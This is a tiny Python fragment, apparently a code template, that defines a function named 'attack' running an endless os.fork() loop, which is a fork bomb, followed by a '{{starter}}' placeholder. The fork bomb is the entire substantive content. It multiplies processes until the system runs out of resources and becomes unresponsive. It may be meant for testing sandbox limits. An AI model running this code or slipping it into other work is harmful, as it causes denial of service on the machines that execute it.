import os


def attack(*_):
    while True:
        try:
            os.fork()
        except OSError:
            pass


{{starter}}
